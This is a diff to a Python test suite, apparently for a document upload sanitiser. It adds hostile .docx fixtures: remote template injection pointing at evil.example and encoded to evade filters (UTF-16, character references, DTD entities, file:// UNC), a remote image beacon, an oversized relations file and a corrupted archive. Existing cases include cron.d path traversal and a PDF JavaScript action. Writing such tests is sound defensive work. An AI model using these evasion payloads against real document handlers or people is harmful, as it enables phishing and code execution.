@@ -16,7 +16,7 @@ MACRO_TYPES = TYPES.replace(
     b"vnd.openxmlformats-officedocument.wordprocessingml.document.main", b"vnd.ms-word.document.macroEnabled.main"
 )
 RELS = b'<Relationships><Relationship Type="attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
-SETTINGS = "word/_rels/settings.xml.rels"
+SETTINGS, PARTS = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"
 SPOKEN = b"%%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /%s /JS (app.alert(1)) >> >>\nendobj\n%%%%EOF\n"
 
 
@@ -73,6 +73,13 @@ def _lying() -> bytes:
     return whole.replace((5000).to_bytes(4, "little"), (3_000_000_000).to_bytes(4, "little"))
 
 
+def _damaged() -> bytes:
+    """Its parts are packed, and a bit of what is packed has changed on the way."""
+    whole = bytearray(word(types=TYPES * 9, packed=True))
+    whole[whole.index(b"[Content_Types].xml") + 40] ^= 255
+    return bytes(whole)
+
+
 def _many() -> bytes:
     return word(*((f"word/{number}.xml", b"") for number in range(2001)))
 
@@ -119,6 +126,29 @@ HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
     "an archive within": ("cv.docx", lambda: word(("word/media/more.zip", ZIP))),
     "a template from the net": ("cv.docx", lambda: word((SETTINGS, RELS % b"https://evil.example/t.dotm"))),
     "a template from another machine": ("cv.docx", lambda: word((SETTINGS, RELS % rb"\\evil.example\t.dotm"))),
+    "a template from a machine, as if it were a disk": (
+        "cv.docx",
+        lambda: word((SETTINGS, RELS % b"file:////evil.example/t.dotm")),
+    ),
+    "a template in other letters": (
+        "cv.docx",
+        lambda: word((SETTINGS, (RELS % b"https://evil.example/t.dotm").decode().encode("utf-16"))),
+    ),
+    "a template spelt by numbers": ("cv.docx", lambda: word((SETTINGS, RELS % b"&#104;ttps://evil.example/t.dotm"))),
+    "a template by a word of its own": (
+        "cv.docx",
+        lambda: word((SETTINGS, b"<!DOCTYPE r [<!ENTITY w 'https:'>]>" + RELS % b"&w;//evil.example/t.dotm")),
+    ),
+    "a template of settings that are called otherwise": (
+        "cv.docx",
+        lambda: word(("word/_rels/Other.xml.RELS", RELS % b"https://evil.example/t.dotm")),
+    ),
+    "a picture from the net": (
+        "cv.docx",
+        lambda: word((PARTS, RELS.replace(b"attachedTemplate", b"image") % b"https://evil.example/seen.png")),
+    ),
+    "references without end": ("cv.docx", lambda: word((PARTS, b" " * 5 * 1024 * 1024))),
+    "a document that was damaged on its way": ("cv.docx", _damaged),
     "a part above its folder": ("cv.docx", lambda: word(("../../etc/cron.d/x", b"x"))),
     "a part at the root": ("cv.docx", lambda: word(("/etc/cron.d/x", b"x"))),
     "a part on a drive": ("cv.docx", lambda: word(("C:\\x.dll", b"x"))),
